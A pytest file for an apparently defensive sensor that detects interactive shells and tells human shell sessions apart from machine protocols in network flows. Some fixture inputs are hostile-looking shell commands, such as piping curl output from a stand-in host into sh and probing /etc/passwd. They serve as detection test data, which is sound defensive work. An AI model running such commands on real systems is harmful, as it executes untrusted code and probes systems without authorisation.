"""Which programs run what they read."""

from __future__ import annotations

import socket

import pytest

from sensor.context.commands import reads_commands
from sensor.context.flows import Flows
from sensor.decode import Ends, Payload


@pytest.mark.parametrize(
    ("image", "line"),
    [
        ("/usr/bin/dash", "sh"),
        ("/usr/bin/dash", "sh -i"),
        ("/usr/bin/bash", "-bash"),
        ("/usr/bin/bash", "bash --norc --noprofile"),
        ("/usr/bin/bash", "bash --rcfile /dev/null -i"),
        ("/usr/bin/bash", "bash -o pipefail -l"),
        ("/usr/bin/bash", "bash -s one two"),
        ("/usr/bin/zsh5", "zsh -f"),
        ("/usr/bin/busybox", "sh"),
        ("/bin/busybox", "busybox ash -i"),
        ("/usr/bin/python3.11", "python3"),
        ("/usr/bin/python3.11", "python3 -u -"),
        ("/usr/bin/python3.11", "python3 -i setup.py"),
        ("/usr/bin/perl", "perl"),
        ("/usr/bin/node", "node -i"),
        ("/usr/bin/ksh93", "ksh"),
    ],
)
def test_they_do(image: str, line: str) -> None:
    assert reads_commands(image, line.split())


@pytest.mark.parametrize(
    ("image", "line"),
    [
        ("/usr/bin/bash", "bash -c id"),
        ("/usr/bin/bash", "bash -lc id"),
        ("/usr/bin/dash", "sh script.sh"),
        ("/usr/bin/dash", "sh -e script.sh"),
        ("/usr/bin/python3.11", "python3 server.py"),
        ("/usr/bin/python3.11", "python3 -m http.server"),
        ("/usr/bin/python3.11", "python3 -Ic pass"),
        ("/usr/bin/perl", "perl -ne print"),
        ("/usr/bin/node", "node server.js --stdio"),
        ("/bin/busybox", "cat"),
        ("/usr/bin/tar", "tar x"),
        ("/usr/bin/ssh", "ssh host"),
        ("/usr/bin/wish-list", "wish-list"),
    ],
)
def test_they_do_not(image: str, line: str) -> None:
    assert not reads_commands(image, line.split())
    assert not reads_commands("", [])


def plain(ours: bytes, theirs: bytes) -> bool:
    flows, ends = Flows(), Ends(1, "198.51.100.7", "10.0.0.1", 4444, 5555, socket.IPPROTO_TCP)
    for inbound, data in ((False, ours), (True, theirs)):
        flows.recognise(Payload(0, 1, 1, 1, 0, ends, 0, inbound, data))
    said = flows.said(ends)
    assert said is not None and said.protocol == "unknown"
    return said.plain


@pytest.mark.parametrize(
    ("ours", "theirs"),
    [
        (b"$ ", b"id\n"),
        (b"[root@node ~]# ", b"ls -la /\n"),
        (b"\x1b[?2004hbash-5.2# ", b"cd /tmp; curl x | sh\r\n"),
        ("größe: 5\n".encode(), b"\n"),
        ("über".encode()[:-1] + "ß".encode()[:1], b"cat f\n"),
        (b"", b"[ -f /etc/passwd ] && echo yes\n"),
    ],
)
def test_what_a_shell_and_a_person_say(ours: bytes, theirs: bytes) -> None:
    assert plain(ours, theirs)


@pytest.mark.parametrize(
    ("ours", "theirs"),
    [
        (b"*1\r\n$4\r\nPING\r\n", b"+PONG\r\n"),
        (b'{"jsonrpc": "2.0"}\n', b"{}\n"),
        (b'[{"id": 1}]', b""),
        (b"", b"220 mail.example.org ESMTP\r\n"),
        (b"CONNECT {}\r\n", b'INFO {"server_id": 1}\r\n'),
        (b"\x00\x00\x00\x08\x04\xd2\x16\x2f", b"N"),
        (b"$ ", b"id\n\x00"),
        (b"\xff\xfe\xfd\xfc\xfb\xfa", b"ok\n"),
    ],
)
def test_what_programs_say(ours: bytes, theirs: bytes) -> None:
    assert not plain(ours, theirs)
